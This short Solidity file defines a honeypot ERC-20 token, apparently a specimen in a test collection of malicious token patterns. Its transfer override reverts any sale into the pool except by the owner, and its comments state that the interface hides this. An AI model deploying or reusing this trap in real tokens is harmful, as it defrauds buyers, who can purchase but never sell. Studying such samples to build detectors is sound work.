// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ZooERC20} from "./ZooERC20.sol";

/// Anyone can buy (the pool sends tokens out) and transfer, but only the owner can sell: any
/// other transfer into the pool reverts. Nothing in its interface gives that away; only a
/// simulated sell does.
contract HoneypotToken is ZooERC20 {
    address public pool;

    error TransferFailed();

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        _init(name_, symbol_, supply, msg.sender);
    }

    function setPool(address pool_) external onlyOwner {
        pool = pool_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && pool != address(0) && from != owner) revert TransferFailed();
        _move(from, to, value);
    }
}
